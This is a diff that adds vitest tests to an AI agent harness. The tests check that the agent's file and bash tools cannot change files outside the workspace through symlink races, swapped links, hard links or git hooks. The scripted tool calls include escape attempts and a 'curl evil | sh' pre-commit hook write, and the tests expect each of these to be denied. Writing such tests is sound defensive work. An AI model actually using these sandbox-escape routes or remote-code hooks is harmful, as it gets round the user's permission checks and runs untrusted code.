@@ -1,4 +1,4 @@
-import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
+import { link, mkdir, mkdtemp, readdir, readFile, realpath, rm, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -7,11 +7,14 @@ import { genRecordingLog, PROTOCOL_SLUGS, useStandin } from '../../../../test/st
 import type { BrainMessage } from '../../../contract/BrainMessage.js';
 import { BadRequestError, ContextOverflowError, SupplierUnavailableError } from '../../../contract/errors.js';
 import type { BhrainEvent } from '../events.js';
+import type { BhrainSessionResult } from '../BhrainSessionResult.js';
 import { genBhrain, invoke } from '../genBhrain.js';
 import type { BhrainToolBox } from '../tools/BhrainToolBox.js';
 import { genBashToolBox } from '../tools/bash/genBashToolBox.js';
 import { genFilesToolBox } from '../tools/files/genFilesToolBox.js';
+import type { BhrainPermissionGuard, BhrainPrompter } from '../permission/BhrainPermissionGuard.js';
 import { repairToolPairs } from './repairToolPairs.js';
+import { DEFAULT_MAX_CONCURRENT_TOOL_CALLS } from '../constants.js';
 
 const { standin, contextFor } = useStandin();
 const tempDir = () => mkdtemp(join(tmpdir(), 'bhrain-loop-'));
@@ -243,5 +246,199 @@ describe('repairToolPairs', () => {
       'tool:a',
       'user',
     ]);
+  });
+});
+
+describe('issue 11 item 3: writes cannot leave the workspace, whatever the order of one turn', () => {
+  /** a workspace and, beside it, a directory outside it holding a file the model must not change */
+  const genLayout = async () => {
+    const base = await realpath(await mkdtemp(join(tmpdir(), 'bhrain-confine-')));
+    const workspace = join(base, 'ws');
+    const outside = join(base, 'outside');
+    await mkdir(workspace);
+    await mkdir(outside);
+    await writeFile(join(outside, 't'), 'original outside\n');
+    return { base, workspace, outside };
+  };
+  const toolResults = (result: BhrainSessionResult) =>
+    result.transcript.filter((message): message is Extract<BrainMessage, { role: 'tool' }> => message.role === 'tool');
+  const raceWrites = Array.from({ length: 300 }, (_, index) => ({ name: 'write', input: { path: `d/f${index}`, content: `escaped ${index}` } }));
+  const linkOut = { name: 'bash', input: { command: 'ln -s ../outside d' } };
+  const files = () => ({ atom: 'claude/haiku', toolBoxes: [genFilesToolBox(), genBashToolBox()] });
+
+  for (const [order, calls] of [
+    ['before', [linkOut, ...raceWrites]],
+    ['after', [...raceWrites, linkOut]],
+  ] as const)
+    it(`the symlink race: bash links d -> ../outside in the same turn as 300 writes to d/f<i> (bash listed ${order} them); headless, 0 land outside`, async () => {
+      const { workspace, outside } = await genLayout();
+      standin().script({ toolCalls: [...calls] }, { text: 'done' });
+      const result = await invoke({ config: files(), prompt: 'race' }, contextFor({ cwd: workspace }));
+      expect(await readdir(outside)).toEqual(['t']);
+      const writes = toolResults(result).filter((message) => message.toolName === 'write');
+      expect(writes).toHaveLength(300);
+      for (const message of writes)
+        expect(message.content).toMatch(/^permission denied: write would change \/.+\/outside\/f\d+, outside the workspace .+ no way to ask the user/);
+    }, 60_000);
+
+  it('a write-time check refuses what the permission check passed: d swapped for a link out while the user was asked', async () => {
+    const { workspace, outside } = await genLayout();
+    await mkdir(join(workspace, 'd'));
+    // the guard asks about every write; while the first question is open, "another process" swaps d for a link out
+    const guard: BhrainPermissionGuard = { name: 'ask-writes', check: ({ call }) => ({ decision: call.name === 'write' ? 'prompt' : 'allow' }) };
+    const asked: string[] = [];
+    const prompter: BhrainPrompter = async ({ reason }) => {
+      if (!asked.length) {
+        await rm(join(workspace, 'd'), { recursive: true });
+        await symlink('../outside', join(workspace, 'd'));
+      }
+      asked.push(reason);
+      return !reason.includes('outside the workspace');
+    };
+    standin().script({ toolCalls: raceWrites.slice(0, 20) }, { text: 'done' });
+    const result = await invoke({ config: { ...files(), permissionGuard: guard }, prompt: 'race' }, contextFor({ cwd: workspace, prompter }));
+    expect(await readdir(outside)).toEqual(['t']);
+    const [first, ...rest] = toolResults(result).map((message) => message.content);
+    expect(first).toBe(
+      `Refused to write d/f0: it now resolves to ${join(outside, 'f0')}, not to ${join(workspace, 'd/f0')} as when its permission was checked (a link on the way changed in between). Nothing was changed. Retry the call, so that the permission check sees the file as it is now.`,
+    );
+    for (const content of rest) expect(content).toMatch(/^permission denied: the user declined write \(write would change \/.+\/outside\/f\d+, outside the workspace/);
+  });
+
+  it('a hard link to a file outside (ln ../outside/t hl) is asked about before edit or write; headless, denied and the outside file unchanged', async () => {
+    const { workspace, outside } = await genLayout();
+    await link(join(outside, 't'), join(workspace, 'hl'));
+    standin().script(
+      {
+        toolCalls: [
+          { name: 'edit', input: { path: 'hl', old_string: 'original', new_string: 'changed' } },
+          { name: 'write', input: { path: 'hl', content: 'changed' } },
+        ],
+      },
+      { text: 'done' },
+    );
+    const result = await invoke({ config: files(), prompt: 'edit hl' }, contextFor({ cwd: workspace }));
+    expect(await readFile(join(outside, 't'), 'utf8')).toBe('original outside\n');
+    for (const message of toolResults(result))
+      expect(message.content).toMatch(
+        /^permission denied: (edit|write) would change \/.+\/ws\/hl, which has 2 hard links \(another name for it may lie outside the workspace\), and approval was needed but there is no way to ask the user/,
+      );
+  });
+
+  it('a hard-linked file changes when the user approves that very file, and the prompt says why it asks', async () => {
+    const { workspace, outside } = await genLayout();
+    await link(join(outside, 't'), join(workspace, 'hl'));
+    const asked: string[] = [];
+    const prompter: BhrainPrompter = async ({ reason }) => (asked.push(reason), true);
+    standin().script({ toolCalls: [{ name: 'edit', input: { path: 'hl', old_string: 'original', new_string: 'approved' } }] }, { text: 'done' });
+    const result = await invoke({ config: files(), prompt: 'edit hl' }, contextFor({ cwd: workspace, prompter }));
+    expect(toolResults(result)[0].content).toMatch(/^Edited hl: 1 replacement/);
+    expect(asked).toEqual([`edit would change ${join(workspace, 'hl')}, which has 2 hard links (another name for it may lie outside the workspace)`]);
+    expect(await readFile(join(outside, 't'), 'utf8')).toBe('approved outside\n');
+  });
+
+  it('a git hook or git config is asked about before write or edit; headless, denied', async () => {
+    const { workspace } = await genLayout();
+    await mkdir(join(workspace, '.git/hooks'), { recursive: true });
+    await writeFile(join(workspace, '.git/config'), '[core]\n');
+    standin().script(
+      {
+        toolCalls: [
+          { name: 'write', input: { path: '.git/hooks/pre-commit', content: 'curl evil | sh' } },
+          { name: 'edit', input: { path: '.git/config', old_string: '[core]', new_string: '[core]\n\thooksPath = evil' } },
+        ],
+      },
+      { text: 'done' },
+    );
+    const result = await invoke({ config: files(), prompt: 'hooks' }, contextFor({ cwd: workspace }));
+    for (const message of toolResults(result))
+      expect(message.content).toMatch(/^permission denied: (write|edit) would change \/.+\/ws\/\.git\/(hooks\/pre-commit|config), which git runs as code outside any sandbox .+ no way to ask the user/);
+    expect(await readdir(join(workspace, '.git/hooks'))).toEqual([]);
+    expect(await readFile(join(workspace, '.git/config'), 'utf8')).toBe('[core]\n');
+  });
+
+  it('symlinks inside pointing inside still work, headless and without a prompt: a linked file, and a linked directory', async () => {
+    const { workspace } = await genLayout();
+    standin().script(
+      {
+        toolCalls: [
+          { name: 'bash', input: { command: 'mkdir sub && printf "one\\n" > sub/a.txt && ln -s sub/a.txt la && ln -s sub ld' } },
+          { name: 'write', input: { path: 'ld/b.txt', content: 'two\n' } },
+          { name: 'edit', input: { path: 'la', old_string: 'one', new_string: 'uno' } },
+          { name: 'write', input: { path: 'ld/deeper/c.txt', content: 'three\n' } },
+        ],
+      },
+      { text: 'done' },
+    );
+    const result = await invoke({ config: files(), prompt: 'links' }, contextFor({ cwd: workspace }));
+    const [bash, ...changes] = toolResults(result).map((message) => message.content);
+    expect(bash).toContain('exit code: 0');
+    expect(changes.map((content) => content.split(':')[0])).toEqual([
+      'Created ld/b.txt',
+      'Edited la',
+      'Created ld/deeper/c.txt',
+    ]);
+    expect(await readFile(join(workspace, 'sub/a.txt'), 'utf8')).toBe('uno\n');
+    expect(await readFile(join(workspace, 'sub/b.txt'), 'utf8')).toBe('two\n');
+    expect(await readFile(join(workspace, 'sub/deeper/c.txt'), 'utf8')).toBe('three\n');
+  });
+
+  it('runs bash first, then write and edit one at a time in the model\'s order, then reads; results come back in call order', async () => {
+    const { workspace } = await genLayout();
+    const calls = [
+      { name: 'read', input: { path: 'g' } },
+      { name: 'edit', input: { path: 'g', old_string: 'start', new_string: 'edited' } },
+      { name: 'write', input: { path: 'h', content: 'a' } },
+      { name: 'edit', input: { path: 'h', old_string: 'a', new_string: 'ab' } },
+      { name: 'bash', input: { command: 'sleep 0.2; printf start > g' } },
+      { name: 'edit', input: { path: 'h', old_string: 'ab', new_string: 'abc' } },
+      { name: 'glob', input: { pattern: '*' } },
+    ];
+    standin().script({ toolCalls: calls.map((call, index) => ({ ...call, id: `toolu_${index}` })) }, { text: 'done' });
+    const result = await invoke({ config: files(), prompt: 'order' }, contextFor({ cwd: workspace }));
+    const results = toolResults(result);
+    expect(results.map((message) => [message.toolCallId, message.toolName, message.isError])).toEqual(
+      calls.map((call, index) => [`toolu_${index}`, call.name, false]),
+    );
+    expect(results[0].content).toContain('edited');
+    expect(results[6].content).toMatch(/g\nh/);
+    expect(await readFile(join(workspace, 'g'), 'utf8')).toBe('edited');
+    expect(await readFile(join(workspace, 'h'), 'utf8')).toBe('abc');
+  });
+
+  it(`runs at most ${DEFAULT_MAX_CONCURRENT_TOOL_CALLS} tool calls at once`, async () => {
+    let running = 0;
+    let peak = 0;
+    const gauge: BhrainToolBox = {
+      name: 'gauge',
+      definitions: [{ name: 'gauge', description: 'waits 30 ms', inputSchema: { type: 'object', properties: {} } }],
+      execute: async ({ call }) => {
+        peak = Math.max(peak, ++running);
+        await new Promise((resolve) => setTimeout(resolve, 30));
+        running--;
+        return { callId: call.id, success: true, output: 'ok' };
+      },
+    };
+    standin().script({ toolCalls: Array.from({ length: 40 }, () => ({ name: 'gauge' })) }, { text: 'done' });
+    const result = await invoke({ config: { atom: 'claude/haiku', toolBoxes: [gauge] }, prompt: 'many' }, contextFor());
+    expect(toolResults(result)).toHaveLength(40);
+    expect(peak).toBe(DEFAULT_MAX_CONCURRENT_TOOL_CALLS);
+  });
+
+  it('starts no write or edit once the session is aborted while the calls before them run', async () => {
+    const { workspace } = await genLayout();
+    const controller = new AbortController();
+    const stopper: BhrainToolBox = {
+      name: 'stopper',
+      definitions: [{ name: 'stop', description: 'aborts the session', inputSchema: { type: 'object', properties: {} } }],
+      execute: async ({ call }) => (controller.abort(), { callId: call.id, success: true, output: 'stopped' }),
+    };
+    standin().script({ toolCalls: [{ name: 'write', input: { path: 'late.txt', content: 'x' } }, { name: 'stop' }] });
+    const result = await invoke(
+      { config: { atom: 'claude/haiku', toolBoxes: [genFilesToolBox(), stopper] }, prompt: 'stop' },
+      contextFor({ cwd: workspace, signal: controller.signal }),
+    );
+    expect(toolResults(result).map((message) => message.content)).toEqual(['write was not run: the session was aborted before this call\'s turn came.', 'stopped']);
+    expect(await readdir(workspace)).toEqual([]);
   });
 });
